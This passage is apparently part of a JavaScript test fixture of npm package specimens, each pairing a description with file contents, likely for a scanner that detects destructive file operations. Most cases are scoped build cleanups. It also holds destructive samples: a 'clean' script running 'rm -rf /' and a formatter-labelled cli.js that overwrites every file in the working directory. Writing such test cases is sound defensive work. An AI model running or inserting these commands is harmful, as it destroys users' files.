      when: 'a formatter rewrites what it finds in the project',
      files: {
        'cli.js': `#!/usr/bin/env node\n${FS} for (const f of fs.readdirSync(process.cwd())) fs.writeFileSync(path.join(process.cwd(), f), 'x')`,
        'package.json': { name: 'specimen', bin: 'cli.js' },
      },
    },
    {
      when: 'a script cleans before a build',
      files: { 'package.json': { name: 'specimen', scripts: { postinstall: 'rm -rf build && node-gyp rebuild', clean: 'rm -rf /' } } },
    },
    {
      when: 'a pattern in a folder of the build is deleted',
      files: { 'index.js': `const rimraf = require('rimraf'); rimraf.sync(require('path').join(process.cwd(), 'dist', '*'))` },
    },
    {
      when: 'one entry of the project is deleted by a library',
      files: {
        'index.js': `const rimraf = require('rimraf'); exports.clean = name => rimraf.sync(require('path').join(process.cwd(), name))`,
      },
    },
    { when: 'a hook cleans its own build', files: { 'package.json': hook('rm -rf build/* && node-gyp rebuild') } },
    {
      when: 'a migration rewrites what a pattern names',
      files: {
        'index.js': `${FS} exports.migrate = () => require('glob').sync(process.cwd() + '/**/*.js').forEach(file => fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('a', 'b')))`,
      },
    },
    {
      when: 'what a build has made is deleted one after the other',
      files: {
        'index.js': `${FS} for (const d of ['dist', 'coverage']) fs.rmSync(require('path').join(process.cwd(), d), { recursive: true })`,
      },
    },
    {
      when: 'a folder is gone to, or named, before it is emptied',
      files: {
        'index.js': `const { exec } = require('child_process'); exports.clean = () => { exec('cd build && rm -rf *'); exec('rm -rf *', { cwd: 'build' }); exec('rm -rf build/*'); };`,
      },
    },
    {
      when: 'a mirror deletes what the server of its user no longer has',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); exports.mirror = async (url, folder) => { const { gone } = await (await fetch(url)).json(); for (const name of gone) fs.rmSync(path.join(folder, name), { recursive: true }) }`,
      },
    },
  ],
});
